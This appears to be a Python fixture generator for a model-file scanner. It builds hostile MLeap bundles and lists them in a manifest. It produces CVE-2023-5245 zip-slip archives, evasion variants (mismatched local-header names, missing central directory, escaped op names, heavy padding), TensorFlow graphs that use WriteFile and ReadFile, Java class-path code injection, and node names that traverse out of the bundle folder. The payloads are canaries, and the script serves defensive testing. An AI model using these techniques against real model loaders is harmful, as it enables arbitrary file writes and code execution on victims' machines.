"""Makes hostile MLeap bundles out of honest ones: malicious.py GRAPHS BUNDLES CLASSES FIXTURES. Run by run.sh.

GRAPHS is what Graphs.scala wrote, BUNDLES what Bundles.scala wrote, CLASSES has weir/Canary.class. Payloads write a file or folder weir-canary into the temporary folder of the Java
program that loads the bundle, or into its current folder, or read secret.txt or outside/evil.node there. fire.py proves each of them.
"""
import hashlib
import io
import json
import os
import shutil
import sys
import zipfile

CANARY = "weir-canary"


def read_zip(path):
    with zipfile.ZipFile(path) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def make_zip(files, method=zipfile.ZIP_DEFLATED, out=None):
    """A zip file of (name, content) pairs as they are spelled."""
    buf = out or io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in files:
            info = zipfile.ZipInfo("x")
            info.filename = name
            info.compress_type = zipfile.ZIP_STORED if name.endswith("/") else method
            z.writestr(info, data)
    return buf.getvalue() if out is None else None


class Stream(io.RawIOBase):
    """Takes bytes without seeking, so that zipfile writes data descriptors."""

    def __init__(self):
        super().__init__()
        self.data = b""

    def writable(self):
        return True

    def write(self, b):
        self.data += bytes(b)
        return len(b)


def described(files):
    s = Stream()
    make_zip(files, out=s)
    return s.data


def local_names(files, swap):
    """Names in the local headers differ from those in the directory: java.util.zip.ZipInputStream goes by the former."""
    data = make_zip(files)
    for old, new in swap:
        assert len(old) == len(new)
        i = data.index(old.encode())  # the first is the local header's
        data = data[:i] + new.encode() + data[i + len(old):]
    return data


class Maker:
    def __init__(self, graphs, bundles, root):
        self.graphs, self.bundles, self.root, self.entries = graphs, bundles, root, []
        shutil.rmtree(os.path.join(root, "mleap"), ignore_errors=True)
        os.makedirs(os.path.join(root, "mleap"))
        self.saved = list(read_zip(os.path.join(graphs, "plain.saved_model.zip")).items())

    def note(self, path, technique, gives):
        full, sha = os.path.join(self.root, path), ""
        if os.path.isdir(full):
            path += "/"
        else:
            with open(full, "rb") as f:
                sha = hashlib.sha256(f.read()).hexdigest()
        self.entries.append(dict(path=path, sha256=sha, technique=technique, family="mleap", loader="MLeap", fires=[], gives=gives, canary="file", on=[], note=""))

    def base(self, kind):
        return read_zip(os.path.join(self.graphs, "bundles", kind + ".zip"))

    def zip(self, name, files, technique, gives="write", raw=None):
        path = f"mleap/{name}.zip"
        with open(os.path.join(self.root, path), "wb") as f:
            f.write(raw if raw is not None else make_zip(files.items()))
        self.note(path, technique, gives)

    def folder(self, name, files, technique, gives="write"):
        path = f"mleap/{name}"
        for n, data in files.items():
            if n.endswith("/"):
                continue
            to = os.path.join(self.root, path, n)
            os.makedirs(os.path.dirname(to), exist_ok=True)
            with open(to, "wb") as f:
                f.write(data)
        self.note(path, technique, gives)

    def with_saved(self, data, kind="plain-saved-json"):
        files = self.base(kind)
        name = next(n for n in files if n.endswith("saved_model.zip"))
        files[name] = data
        return files

    def extraction(self):
        """CVE-2023-5245: entries of saved_model.zip."""
        evil = (f"../{CANARY}", b"fired")
        for name, entry, how in [
            ("parent", f"../{CANARY}", "an entry one folder up"), ("two-up", f"../../{CANARY}", "an entry two folders up"),
            ("below-variables", f"variables/../../{CANARY}", "an entry that goes down and then up"), ("dot", f"./../{CANARY}", "an entry that begins with ./.."),
            ("slash", f"/../{CANARY}", "an absolute name that still leads up, for absolute names are taken below the folder"),
            ("slashes", f"..//{CANARY}", "an entry with two slashes"), ("long", "a/" * 60 + "../" * 61 + CANARY, "a path of 60 folders down and 61 up"),
            ("folder-entry", f"../{CANARY}/", "a folder entry, which fixed versions still make"),
            ("folder-below", f"variables/../../{CANARY}/", "a folder entry that goes down and then up"),
        ]:
            data = b"" if entry.endswith("/") else b"fired"
            folders = [("a/" * 60, b"")] if name == "long" else []
            self.zip("cve-" + name, self.with_saved(make_zip(self.saved + folders + [(entry, data)])), how)
        self.zip("cve-first", self.with_saved(make_zip([evil] + self.saved)), "the entry comes before the model's own")
        self.zip("cve-stored", self.with_saved(make_zip(self.saved + [evil], zipfile.ZIP_STORED)), "the entries are stored")
        self.zip("cve-alone", self.with_saved(make_zip([evil])), "the archive holds no model at all")
        self.zip("cve-many", self.with_saved(make_zip([("variables/", b"")] + [(f"variables/v{i}", b"x") for i in range(300)] + [evil])), "300 harmless entries come first")
        self.zip("cve-described", self.with_saved(described([evil] + self.saved)), "sizes stand behind the data")
        swapped = local_names(self.saved + [("variables/a/b/c", b"fired")], [("variables/a/b/c", "../" + CANARY + "x")])
        self.zip("cve-local-name", self.with_saved(swapped), "only the local header has the name, which is what Java's stream reads")
        bare = make_zip(self.saved + [evil])
        self.zip("cve-no-directory", self.with_saved(bare[:bare.index(b"PK\x01\x02")]), "an archive without a directory, which Java's stream reads all the same")
        broken = make_zip([evil] + self.saved)
        self.zip("cve-broken-later", self.with_saved(broken[:len(broken) // 2]), "the archive breaks off behind the entry")
        bad = make_zip(self.saved + [evil])
        self.zip("cve-protobuf", self.with_saved(bad, "plain-saved-pb"), "a protobuf bundle")
        self.zip("cve-pipeline", self.with_saved(bad, "plain-pipeline-json"), "three pipelines deep")
        self.folder("cve-folder-json", self.with_saved(bad), "a bundle that is a folder")
        self.folder("cve-folder-pb", self.with_saved(bad, "plain-saved-pb"), "a protobuf bundle that is a folder")
        self.disguised(bad)

    def disguised(self, bad):
        """The same archive below definitions and containers that are spelled differently."""
        files = self.with_saved(bad)
        files["root/model.json"] = files["root/model.json"].replace(b'"tensorflow"', b'"\\u0074ensorflow"').replace(b'"op"', b'"\\u006fp"')
        self.zip("cve-escaped", files, "the operation is spelled with escapes")
        files = self.with_saved(bad)
        files["root/model.json"] = b" " * 40_000 + files["root/model.json"]
        self.zip("cve-blank", files, "40,000 spaces before the definition")
        files = self.with_saved(bad)
        model = json.loads(files["root/model.json"])
        files["root/model.json"] = json.dumps({"attributes": {"pad": {"string": "x" * 40_000}, **model["attributes"]}, "op": model["op"]}).encode()
        self.zip("cve-op-last", files, "the operation comes after 40,000 bytes of attributes")
        files = self.with_saved(bad, "plain-saved-pb")
        files["root/model.pb"] = b"\x7a\x03abc" + files["root/model.pb"]  # field 15, unknown
        self.zip("cve-unknown-field", files, "the protobuf definition begins with a field that MLeap does not know")
        files = dict(files)
        files["root/model.pb"] = b"\x7a\xc0\xb8\x02" + b"x" * 40_000 + files["root/model.pb"]
        self.zip("cve-padded", files, "the protobuf definition begins with 40,000 bytes that MLeap passes over")
        files = self.with_saved(bad)
        padded = {f"notes/{i:04}": b"n" for i in range(400)}
        self.zip("cve-hidden-bundle", {**padded, **files, **{"zz" + n: d for n, d in padded.items()}}, "neither end of the bundle shows that it is one")
        self.zip("cve-stored-bundle", {}, "the bundle's entries are stored", raw=make_zip(self.with_saved(bad).items(), zipfile.ZIP_STORED))

    def programs(self):
        """TensorFlow graphs that read and write files."""
        how = {"write-file": "WriteFile", "print-to-file": "PrintV2 to a file", "summary-writer": "CreateSummaryFileWriter", "write-read": "ReadFile into WriteFile"}
        for g, op in how.items():
            for kind in ("saved-json", "graph-json"):
                self.zip(f"graph-{g}-{kind}", self.base(f"{g}-{kind}"), f"{op} in the graph")
        self.zip("graph-write-file-pipeline", self.base("write-file-pipeline-json"), "WriteFile three pipelines deep")
        self.zip("graph-write-file-pb", self.base("write-file-saved-pb"), "WriteFile in a protobuf bundle")
        self.folder("graph-write-file-folder", self.base("write-file-saved-pb"), "WriteFile in a bundle that is a folder")
        for g, op in (("read-file", "ReadFile"), ("matching-files", "MatchingFiles"), ("immutable-const", "ImmutableConst, which maps a file")):
            self.zip(f"graph-{g}", self.base(g + "-saved-json"), f"{op} in the graph", gives="read")

    def code(self, classes):
        """Code beside the definitions: a folder of the bundle as class path registers operations of its own."""
        conf = b'weir.ops = ["weir.Canary"]\nml.combust.mleap.registry.default.ops += "weir.ops"\n'
        with open(os.path.join(classes, "weir", "Canary.class"), "rb") as f:
            jar = [("reference.conf", conf), ("weir/Canary.class", f.read())]
        files = read_zip(os.path.join(self.bundles, "pipeline-json.zip"))
        for name, more, how in [("code-jar", {"root/lib.jar": make_zip(jar)}, "a Java archive in the bundle"),
                                ("code-renamed", {"root/weights.bin": make_zip(jar)}, "a Java archive under another name"),
                                ("code-classes", {"root/" + n: d for n, d in jar}, "a class and a configuration in the bundle")]:
            self.folder(name, {**files, **more}, how + ", which the loader's class path holds", gives="class path")

    def nodes(self):
        """Names of nodes that lead out of the folder."""
        path = "../../../outside/evil"
        for fmt, esc in (("json", False), ("json", True), ("pb", False)):
            files = {}
            top = os.path.join(self.bundles, "pipeline-" + fmt)
            for where, _, names in os.walk(top):
                for n in names:
                    with open(os.path.join(where, n), "rb") as f:
                        files[os.path.relpath(os.path.join(where, n), top)] = f.read()
            if fmt == "json":
                spelled = path.replace("..", "\\u002e\\u002e") if esc else path
                files["root/model.json"] = files["root/model.json"].replace(b'"lr"', f'"{spelled}"'.encode())
            else:
                files["root/model.pb"] = pipeline_pb(["assembler", "scaler", path])
            how = ", spelled with escapes" if esc else ""
            self.folder(f"node-outside-{fmt}" + ("-escaped" if esc else ""), files, "a node's name leads out of the bundle" + how, gives="read")
        files = dict(files, **{"root/x/y": b"y"})
        files["root/model.pb"] = pipeline_pb(["assembler", "scaler", "x/../../../../outside/evil"])
        self.folder("node-outside-below", files, "a node's name goes down and then out", gives="read")


def pipeline_pb(names):
    """ml.bundle.Model of a pipeline with these nodes."""
    def field(n, data):
        size, out = len(data), b""
        while True:
            out += bytes([size & 127 | (128 if size > 127 else 0)])
            size >>= 7
            if not size:
                return bytes([n << 3 | 2]) + out + data
    texts = b"".join(field(2, n.encode()) for n in names)
    return field(1, b"pipeline") + field(2, field(1, field(1, b"nodes") + field(2, field(2, texts))))


def main(graphs, bundles, classes, root):
    m = Maker(graphs, bundles, root)
    m.code(classes)
    m.extraction()
    m.programs()
    m.nodes()
    with open(os.path.join(root, "mleap", "manifest.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(e) for e in sorted(m.entries, key=lambda e: e["path"])) + "\n]\n")
    print(len(m.entries), "hostile bundles")


if __name__ == "__main__":
    main(*sys.argv[1:])
